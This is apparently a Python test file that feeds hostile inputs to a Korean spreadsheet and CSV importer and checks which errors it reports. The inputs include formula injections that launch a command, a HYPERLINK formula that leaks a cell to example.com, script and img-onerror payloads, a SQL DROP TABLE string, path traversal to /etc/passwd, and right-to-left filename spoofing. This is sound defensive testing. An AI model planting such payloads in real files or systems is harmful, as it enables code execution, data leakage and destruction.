"""What would run, draw or lead astray where it is shown: formulas, scripts, markup, and the names of files."""

import json

from tests.corpus.base import BOOK, ENTRIES, VALUE_ENTRIES, long_rows, table
from tests.corpus.books import Formula
from tests.corpus.case import EVALUATION, MONTH, Case

CELL = "실적!G5"
NAMED = {"evaluation": EVALUATION, "month": MONTH}
HARMFUL = {
    "a command as text": "=cmd|' /C calc'!A0",
    "a command behind a plus": "+cmd|' /C calc'!A0",
    "a command behind a minus": "-2+3+cmd|' /C calc'!A0",
    "a command behind an at sign": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a command behind a tab": "\t=1+1",
    "a link that fetches": '=HYPERLINK("http://example.com?x="&A1,"98.5")',
    "a script": "<script>alert(1)</script>",
    "a picture that runs": "<img src=x onerror=alert(1)>",
    "a picture in Markdown": "![x](http://example.com/seen.png)",
    "a link in Markdown": "[98.5](javascript:alert(1))",
    "a heading in Markdown": "# **98.5** `x` | y |\n---",
    "a colour of the screen's own markup": ":red[98.5] :material/delete: $x^2$",
    "a template": "{found} {0.__class__} {allowed:이/가} %s ${x}",
    "a query": "'; DROP TABLE observations; --",
    "a path": "../../../../etc/passwd",
    "reversed writing": "\u202e5.89",
    "control characters": "98\x1b[31m.5\x07",
}


def as_cell(name: str, written: str) -> Case:
    code = "several_numbers" if name in BEGIN_WITH_A_NUMBER else "not_a_value"
    safe = written.replace("\x1b", "_x001B_").replace("\x07", "_x0007_")
    return Case(f"injected, {name}", BOOK.put({CELL: safe}).data, (f"{code} {CELL}",))


def as_unit(name: str, written: str) -> Case:
    data = "\n".join(["unit,indicator,value", f"{json.dumps(written, ensure_ascii=False)},G1,1"]).encode()
    return Case(f"injected, unit, {name}", lambda: data, ("unknown_unit m.csv!A2",), file="m.csv", **NAMED)


def called(name: str, file: str, shown: str) -> Case:
    """A bad file whose name does the harm; ``shown`` is what the problem may say of it."""
    return Case(f"name, {name}", lambda: b"no workbook", (f"not_a_workbook {shown}",), file=file)


def sheet_called(name: str, sheet: str, shown: str) -> Case:
    book = BOOK.add(sheet, table([["x"]]))
    return Case(f"sheet name, {name}", book.data, (f"sheets_skipped {shown}",), ENTRIES)


def well_called(name: str, file: str) -> Case:
    """A good file is read whatever it is called."""
    return Case(f"good file, {name}", BOOK.data, (), ENTRIES, file=file)


BEGIN_WITH_A_NUMBER = ("a command behind a minus", "control characters")
AS_UNIT = ("a command as text", "a script", "a picture in Markdown", "a template")
LONG = "실적" * 150
CASES = (
    *(as_cell(name, written) for name, written in HARMFUL.items()),
    *(as_unit(name, HARMFUL[name]) for name in AS_UNIT),
    Case("injected, a formula that calls another program", BOOK.put({CELL: Formula("cmd|'/C calc'!A0", "5")}).data,
         (f"formulas_read {CELL}",), {**ENTRIES, "41190 G2": "5"}),
    Case("injected, a formula in the reason of a bonus", BOOK.put({"가감점!F4": "=1+1"}).data, (),
         {**ENTRIES, "41190 current bonus": "1.5 =1+1"}),
    Case("injected, a script for a month", BOOK.put({"안내!B2": HARMFUL["a script"]}).data, ("month_outside 안내!B2",)),
    Case("injected, a script for an evaluation", BOOK.put({"안내!B1": HARMFUL["a script"]}).data,
         ("unknown_evaluation 안내!B1",)),
    Case("injected, a script for an indicator", BOOK.put({"실적!A5": HARMFUL["a script"]}).data,
         ("unknown_indicator 실적!A5", "missing_indicators 실적")),
    Case("injected, a script for the name of an indicator", BOOK.put({"실적!B5": HARMFUL["a script"]}).data,
         (), ENTRIES),
    Case("injected, Markdown in a column of a list", lambda: b"unit,indicator,value,![x](http://example.com)",
         ("columns_skipped m.csv", "nothing_entered m.csv"), file="m.csv", **NAMED),
    called("up and out", "../../../etc/passwd.xlsx", "passwd.xlsx"),
    called("up and out, the other way", "..\\..\\Windows\\System32\\x.xlsx", "x.xlsx"),
    called("absolute", "/etc/passwd", "passwd"),
    called("a drive", "C:\\x.xlsx", "x.xlsx"),
    called("reserved", "CON.xlsx", "CON.xlsx"),
    called("a nought byte", "a\0.xlsx", "a .xlsx"),
    called("reversed writing", "실적\u202exslx.exe", "실적 xslx.exe"),
    called("broken over two lines", "a\nb.xlsx", "a b.xlsx"),
    called("a script", "<script>.xlsx", "<script>.xlsx"),
    called("300 characters", f"{LONG}.xlsx", f"{LONG[:94]}….xlsx"),
    called("nothing", "", "?"),
    called("two dots", "..", "?"),
    well_called("300 characters", f"{LONG}.xlsx"),
    well_called("up and out", "../../../month.xlsx"),
    well_called("reversed writing", "\u202exslx.xlsx"),
    sheet_called("a script", "<script>alert(1)</script>", "<script>alert(1)</script>"),
    sheet_called("Markdown", "![x](http://example.com)", "![x](http://example.com)"),
    sheet_called("a place", "실적!A1", "실적!A1"),
    sheet_called("half a million characters", "실" * 500_000, f"{'실' * 59}…"),
    Case("injected, the same file with its name in decomposed letters", BOOK.data, (), ENTRIES,
         file="\u1109\u1175\u11af\u110c\u1165\u11a8.xlsx"),
    Case("injected, a list whose values begin with a tab",
         lambda: "\n".join(row.replace(",91.5", ",\t91.5") for row in long_rows()).encode(), (), VALUE_ENTRIES,
         file="m.csv", **NAMED),
)  # fmt: skip
